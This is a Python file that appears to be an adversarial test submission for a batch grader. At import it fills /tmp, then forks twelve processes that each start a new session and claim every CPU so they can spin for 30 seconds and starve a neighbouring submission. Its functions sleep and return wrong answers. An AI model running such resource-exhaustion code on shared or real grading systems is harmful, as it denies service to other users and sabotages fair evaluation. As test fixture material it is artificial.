"""Attack: starve the submission graded beside it, by spinning on every CPU and filling /tmp.

Graded in `grade batch --jobs 2` beside busy_neighbour.py. At import it
writes to /tmp until the disk (or the folder's cap) is full, up to 96 MiB, and
forks spinners: each leads a session of its own (the kernel shares a CPU
between sessions, so one session's many processes count once), widens its
CPU affinity to every CPU, and spins for up to 30 s. Every call waits 0.8 s, so
the attack covers the neighbour's whole grade, and answers wrongly.

Should score 0 of 8; the neighbour scores its honest 8 of 8, where CPUs are
confined or where its contended grade is graded again alone.
"""

import os
import time

SPINNERS = 12
FILL = 96  # MiB: past the worker's private /tmp, short of troubling the machine's
ALL_CPUS = set(range(os.cpu_count() or 1))


def _fill_tmp():
    chunk, written = b"x" * 2**20, 0
    try:
        with open(f"/tmp/minimax-kit-starve-{os.getuid()}", "wb") as handle:
            for _ in range(FILL):
                handle.write(chunk)
                handle.flush()
                written += 1
    except OSError:  # full: the point
        pass
    return written


def _spin():
    try:
        os.setsid()
        os.sched_setaffinity(0, ALL_CPUS)
    except OSError:
        pass
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        pass
    os._exit(0)


FILLED, SPINNING = _fill_tmp(), 0
for _ in range(SPINNERS):
    try:
        if os.fork() == 0:
            _spin()
        SPINNING += 1
    except OSError:  # RLIMIT_NPROC: enough processes already
        break
print(f"FILLED {FILLED} MiB SPINNING {SPINNING}", flush=True)


def add(a, b):
    time.sleep(0.8)
    return a - b


def pair(x):
    time.sleep(0.8)
    return (x, -x)


def tag(n):
    time.sleep(0.8)
    return {"n": -n}


def push(items, item):
    time.sleep(0.8)
    return -1
